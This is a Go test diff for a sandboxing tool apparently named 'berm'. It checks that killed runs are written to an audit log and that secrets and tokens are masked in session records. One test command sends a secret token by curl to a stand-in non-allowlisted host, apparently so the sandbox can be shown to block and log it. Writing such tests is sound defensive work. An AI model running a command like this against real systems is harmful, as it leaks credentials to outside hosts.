@@ -4,6 +4,7 @@ import (
 	"bufio"
 	"bytes"
 	"crypto/sha256"
+	"encoding/json"
 	"fmt"
 	"os"
 	"path/filepath"
@@ -98,6 +99,92 @@ func TestCredentialInRecords(t *testing.T) {
 		if strings.Contains(record, secret) || strings.Contains(r.stderr, secret) {
 			t.Errorf("it is told: %v\n%s", r, record)
 		}
+	})
+}
+
+// What happened is in the log when it has happened: a run that is killed is recorded up to then,
+// with its beginning, and without the secret.
+func TestKilledRunIsRecorded(t *testing.T) {
+	online(t, func(p *person) {
+		p.env = append(p.env, "REAL_TOKEN="+secret)
+		for _, flags := range [][]string{nil, {"--cred", bound}} {
+			const log = ".local/state/berm/audit/log.jsonl"
+			_ = os.Remove(p.path(log))
+			args := slices.Concat([]string{"run", "--rw", ".", "--allow", "api.example", "--open", opened}, flags, []string{"--", "sh", "-c",
+				"echo begun >begun; curl -sSk https://api.example/hash; curl -sS http://other.example/" + secret + "; echo; sleep 60"})
+			cmd := p.command(args...)
+			out, err := cmd.StdoutPipe()
+			p.must(err)
+			p.must(cmd.Start())
+			if line, err := bufio.NewReader(out).ReadString('\n'); err != nil {
+				t.Errorf("%q, %v", line, err)
+			}
+			wants := []string{`"sandbox.create"`, `"reason":"not_listed"`}
+			if flags != nil {
+				wants = append(wants, `"credential.use"`)
+			}
+			missing := func() string {
+				record, _ := os.ReadFile(p.path(log))
+				for _, want := range wants {
+					if !strings.Contains(string(record), want) {
+						return want
+					}
+				}
+				return ""
+			}
+			for end := time.Now().Add(20 * time.Second); missing() != "" && time.Now().Before(end); {
+				time.Sleep(50 * time.Millisecond)
+			}
+			if lacks := missing(); lacks != "" {
+				t.Errorf("%q: no %s while it runs", flags, lacks)
+			}
+			record := p.read(log)
+			begun, err := os.Stat(p.path("project/begun"))
+			p.must(err)
+			var first struct{ Time time.Time }
+			line, _, _ := strings.Cut(record, "\n")
+			p.must(json.Unmarshal([]byte(line), &first))
+			if first.Time.After(begun.ModTime().Add(50 * time.Millisecond)) { // a file's time may be coarse
+				t.Errorf("recorded at %v, and it began at %v", first.Time, begun.ModTime())
+			}
+			if flags != nil && strings.Contains(record, secret) {
+				t.Errorf("it is told: %s", record)
+			}
+			for _, process := range below(cmd.Process.Pid) {
+				if strings.Contains(process.cmdline, "\x00run\x00") {
+					_ = syscall.Kill(process.pid, syscall.SIGKILL)
+				}
+			}
+			_ = cmd.Process.Kill()
+			_ = cmd.Wait()
+			if record := p.read(log); !strings.Contains(record, `"sandbox.create"`) || strings.Contains(record, `"sandbox.exit"`) {
+				t.Errorf("after its end: %s", record)
+			}
+		}
+	})
+}
+
+// Secrets in a command's arguments are not kept with its session.
+func TestSecretInSession(t *testing.T) {
+	online(t, func(p *person) {
+		p.env = append(p.env, "REAL_TOKEN="+secret)
+		const token = "ghp_0123456789abcdefghijklmnopqrstuvwxyz"
+		p.sh("echo "+secret+" "+token+" >new", "--allow", "api.example", "--open", opened, "--checkpoint", "--cred", bound).exits(0)
+		p.sh("echo "+token+" >newer", "-s", "project-1", "--checkpoint").exits(0)
+		listed := p.berm("sessions").stdout + p.berm("sessions", "--json").stdout + p.read(".local/state/berm/sessions/project-1/session.json")
+		for _, want := range []string{"echo " + strings.Repeat("*", len(secret)) + " ghp_[masked] ", "echo ghp_[masked] "} {
+			if !strings.Contains(listed, want) {
+				t.Errorf("no %q in %s", want, listed)
+			}
+		}
+		_ = filepath.WalkDir(p.path(".local/state/berm"), func(path string, d os.DirEntry, err error) error {
+			if err == nil && d.Type().IsRegular() && !strings.Contains(path, "/upper/") && !strings.Contains(path, "/base") {
+				if content, _ := os.ReadFile(path); !strings.Contains(path, "/checkpoints/") && (bytes.Contains(content, []byte(secret)) || bytes.Contains(content, []byte(token))) {
+					t.Errorf("it is in %s", path)
+				}
+			}
+			return nil
+		})
 	})
 }
 
